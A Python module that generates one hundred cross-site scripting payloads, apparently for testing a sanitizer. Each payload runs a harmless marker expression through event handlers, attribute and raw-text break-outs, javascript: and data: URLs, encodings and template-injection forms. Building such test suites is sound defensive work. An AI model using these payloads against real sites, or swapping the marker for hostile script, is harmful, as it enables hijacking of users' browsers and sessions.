"""A hundred ways in which a text from outside may try to run in a page.

Each calls `hit`, an expression that leaves a mark where a test finds it: they are the
well-known forms (elements with handlers, breaking out of attributes, comments, styles, scripts
and raw-text elements, URLs, SVG and MathML, encodings, templates) in our own wording.
"""

from __future__ import annotations

from itertools import product


def payloads(hit: str = "(window.__xss=1,document.title='ran')") -> tuple[str, ...]:
    """One hundred different texts, each of which would run `hit` in some place or other."""
    found = [*_elements(hit), *_breaking_out(hit), *_addresses(hit), *_others(hit)]
    assert len(found) == len(set(found))
    return tuple(found[:100])


def _elements(hit: str) -> list[str]:
    """Elements that run what their handler says without anybody's doing."""
    return [
        f"<script>{hit}</script>", f"<SCRIPT>{hit}</SCRIPT >", f"<script\n>{hit}</script\n>",
        f"<scr<script>ipt>{hit}</scr</script>ipt>", f"<script/x>{hit}</script>",
        f"<script type=module>{hit}</script>", f"<script>/*</title>*/{hit}</script>",
        f"<img src=x onerror={hit}>", f'<img src="x" onerror="{hit}">',
        f"<IMG SRC=x OnErRoR={hit}>", f"<img/src=x/onerror={hit}>",
        f"<img src=x onerror\n=\n{hit}>", f"<img src=x:x onerror={hit}//",
        f"<image src=x onerror={hit}>", f"<svg onload={hit}>", f"<svg/onload={hit}>",
        f"<svg><script>{hit}</script></svg>",
        f"<svg><animate onbegin={hit} attributeName=x dur=1s>",
        f"<svg><set onbegin={hit} attributeName=x>", f"<body onload={hit}>",
        f"<body onpageshow={hit}>", f"<input autofocus onfocus={hit}>",
        f"<select autofocus onfocus={hit}></select>", f"<textarea autofocus onfocus={hit}>",
        f"<button autofocus onfocus={hit}>", f"<a href=# autofocus onfocus={hit}>x</a>",
        f"<details open ontoggle={hit}>", f"<video src=x onerror={hit}>",
        f"<video><source onerror={hit}></video>", f"<audio src=x onerror={hit}>",
        f"<object data=x onerror={hit}></object>", f"<embed src=x onload={hit}>",
        f"<iframe onload={hit}></iframe>", f"<iframe srcdoc='<script>parent.{hit[1:]}</script>'>",
        f"<link rel=stylesheet href=x onerror={hit}>", f"<style onload={hit}></style>",
        f"<marquee onstart={hit}>x</marquee>", f"<math><mi><img src=x onerror={hit}></mi></math>",
        f"<table background=x><td><img src=x onerror={hit}>",
        f"<div style=animation-name:x onanimationstart={hit}>x</div>",
        f"<noscript><p title='</noscript><img src=x onerror={hit}>'>",
    ]


def _breaking_out(hit: str) -> list[str]:
    """Out of an attribute, a raw-text element or a comment, and then an element."""
    element = f"<img src=x onerror={hit}>"
    ends = ('">', "'>", '"/>', "-->", "--!>", "</title>", "</style>", "</script>", "</textarea>",
            "</summary>", "</select>", "</option>", "</svg>", "]]>", "</template>", "</desc>")
    inside = [f'{quote} autofocus {handler}={hit} x={quote}' for quote, handler in
              product(('"', "'"), ("onfocus", "onmouseover", "ontoggle"))]
    return [*(end + element for end in ends), *inside, f'" autofocus tabindex=1 onfocus="{hit}',
            f"' style=animation-name:x onanimationend='{hit}"]


def _addresses(hit: str) -> list[str]:
    """Addresses that are scripts, and elements that change the page's own."""
    return [
        f"javascript:{hit}", f"JaVaScRiPt:{hit}", f"java\tscript:{hit}", f"\x01javascript:{hit}",
        f"<a href=javascript:{hit}>x</a>", f"<a href=&#106;avascript:{hit}>x</a>",
        f"<iframe src=javascript:parent.{hit[1:]}>",
        f"<form action=javascript:{hit}><input type=submit>",
        f"<base href=javascript:{hit}//>",
        f"<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
        f"<iframe src=data:text/html,<script>{hit}</script>>",
        f"<svg><a xlink:href=javascript:{hit}><text>x</text></a></svg>",
        f"[x](javascript:{hit})", f"![x](x onerror={hit})",
    ]


def _others(hit: str) -> list[str]:
    """Encodings, templates, nulls, and what is half of something."""
    return [
        f"&lt;script&gt;{hit}&lt;/script&gt;", f"&#60;img src=x onerror={hit}&#62;",
        f"%3Cscript%3E{hit}%3C/script%3E", f"\\u003cscript\\u003e{hit}\\u003c/script\\u003e",
        f"\\x3cimg src=x onerror={hit}\\x3e", f"<\x00script>{hit}</script>",
        f"<img\x0bsrc=x\x0conerror={hit}>", f"+ADw-script+AD4-{hit}+ADw-/script+AD4-",
        f"{{{{ {hit} }}}}", f"{{% raw %}}<script>{hit}</script>", f"${{{hit}}}", f"<%= {hit} %>",
        f"#{{{hit}}}", f"`);{hit};(`", f"';{hit};'", f'";{hit};"', f"*/{hit}/*",
        f"<!--><script>{hit}</script>", f"<![CDATA[<script>{hit}</script>]]>",
        f"<?xml version='1.0'?><script>{hit}</script>", f"<svg><style><img src=x onerror={hit}>",
        f"<template><script>{hit}</script></template><script>{hit}//</script>",
        f"<x onclick={hit} autofocus tabindex=0 onfocus={hit}>",
        f"<plaintext></plaintext><script>{hit};0</script>",
    ]
